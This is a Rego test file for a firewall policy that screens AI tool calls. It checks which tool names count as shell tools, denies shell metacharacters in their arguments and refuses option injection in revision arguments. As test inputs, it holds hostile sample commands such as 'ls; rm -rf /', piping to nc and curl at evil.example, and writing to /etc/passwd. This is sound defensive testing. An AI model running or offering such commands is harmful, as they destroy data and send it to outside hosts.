# Package mcpfw_test.commands tests mcpfw.rules.commands: which tools count
# as command tools and which arguments are refused.
package mcpfw_test.commands

import data.mcpfw.rules.commands
import data.mcpfw_test.inputs

denials(inp) := {reason.code | some reason in commands.deny with input as inp}

is_command_tool(name) if {
	commands.effects(data.mcpfw.config.commands) with input as inputs.tool_call(name, {})
}

is_command_tool_for(name, patterns) if {
	commands.effects({"tool_name_patterns": patterns, "metacharacters": [], "ignored_arguments": []}) with input as inputs.tool_call(name, {})
}

test_command_tools_recognised if {
	every name in [
		"bash", "shell", "sh", "terminal", "exec", "execute", "run", "powershell",
		"run_command", "execute_command", "exec_cmd", "runCommand", "RunShellCommand",
		"shell_exec", "run_in_terminal", "bash_tool", "docker_exec", "run_script",
		"start_process", "spawn_process", "ShellExec", "runInTerminal", "execCommand", "BashTool",
	] {
		is_command_tool(name)
	}
}

test_other_tools_not_command_tools if {
	every name in [
		"read_file", "write_file", "execute_sql", "run_query", "query", "git_status",
		"search", "get_current_time", "list_directory", "runbook_lookup", "execution_log",
		"start_processing_queue", "Execution", "executeQuery", "bashful", "terminate_instance",
		"shellfish_recipes",
	] {
		not is_command_tool(name)
	}
}

test_plain_command_allowed_and_tagged if {
	inp := inputs.tool_call("run_command", {"command": "ls -la /data", "cwd": "/data"})
	count(denials(inp)) == 0
	decision := inputs.decide(inp)
	decision.allow == true
	{"type": "tag", "tag": "command_execution"} in decision.obligations
}

test_metacharacters_denied if {
	every command in [
		"ls; rm -rf /",
		"cat x | nc evil.example 80",
		"true && curl evil.example",
		"sleep 1 & curl evil.example",
		"echo `id`",
		"echo $(id)",
		"echo ${HOME}",
		"echo x > /etc/passwd",
		"mail me < /etc/passwd",
		"ls\nrm -rf /",
		"ls\rrm -rf /",
	] {
		denials(inputs.tool_call("bash", {"command": command})) == {"shell_metacharacter"}
	}
}

test_nested_arguments_checked if {
	inp := inputs.tool_call("execute_command", {"argv": ["sh", "-c", "id; whoami"], "env": {"X": "a|b"}})
	reasons := commands.deny with input as inp
	messages := {reason.message | some reason in reasons}
	some message in messages
	contains(message, "argument /params/arguments/argv/2 ")
	some other in messages
	contains(other, "argument /params/arguments/env/X ")
}

test_ignored_arguments_not_checked if {
	inp := inputs.tool_call("bash", {"command": "ls", "description": "List files; show sizes > 1MB"})
	count(denials(inp)) == 0
}

test_non_command_tools_may_use_metacharacters if {
	count(denials(inputs.tool_call("execute_sql", {"sql": "SELECT 1; SELECT a FROM t WHERE b > 2"}))) == 0
}

test_command_output_not_checked if {
	inp := inputs.tool_result("bash", {"command": "ls"}, {"content": [{"type": "text", "text": "a; b | c > d"}]})
	count(denials(inp)) == 0
}

test_metacharacter_list_is_configurable if {
	inp := inputs.tool_call("bash", {"command": "ls | wc -l"})
	count(denials(inp)) == 0 with data.mcpfw.config.commands.metacharacters as [";"]
}

test_tool_name_patterns_are_configurable if {
	inp := inputs.tool_call("deploy", {"target": "prod; rm -rf /"})
	count(denials(inp)) == 0
	denials(inp) == {"shell_metacharacter"} with data.mcpfw.config.commands.tool_name_patterns as ["^deploy$"]
}

test_no_tool_name_patterns_means_no_command_tools if {
	not is_command_tool_for("bash", [])
	count(denials(inputs.tool_call("bash", {"command": "ls; id"}))) == 0 with data.mcpfw.config.commands.tool_name_patterns as []
}

test_inline_flags_stay_with_their_pattern if {
	# (?i) in the first pattern must not make the second one case-insensitive.
	patterns := ["(?i)^exec$", "^Run[A-Z]"]
	is_command_tool_for("EXEC", patterns)
	is_command_tool_for("RunTask", patterns)
	not is_command_tool_for("runtask", patterns)
}

test_decision_tags_command_calls_only_for_client_requests if {
	inp := inputs.tool_result("bash", {"command": "ls"}, {"content": [{"type": "text", "text": "ok"}]})
	inputs.decide(inp).obligations == []
}

# The firewall lists the arguments that start with "-" (firewall/canonical.py).
dashed(inp, refs) := object.union(inp, {"resources": {"paths": [], "urls": [], "dashed": refs}})

test_options_in_revision_arguments_are_denied_for_any_tool if {
	# Through the whole decision: the route runs for every tools/call, not only command tools.
	target := [{"pointer": "/params/arguments/target", "key": "target"}]
	inp := dashed(inputs.tool_call("git_diff", {"repo_path": "/r", "target": "--output=/tmp/x"}), target)
	inputs.codes(inp) == {"option_injection"}
	nested := [{"pointer": "/params/arguments/options/REVISION", "key": "REVISION"}]
	inputs.codes(dashed(inputs.tool_call("git_log", {"options": {"REVISION": "--all"}}), nested)) == {"option_injection"}
	# A file name that starts with "-" is the server's to handle.
	path := [{"pointer": "/params/arguments/path", "key": "path"}]
	inputs.codes(dashed(inputs.tool_call("read_file", {"path": "-notes.txt"}), path)) == set()
	inputs.codes(inp) == set() with data.mcpfw.config.commands.option_arguments as []
}
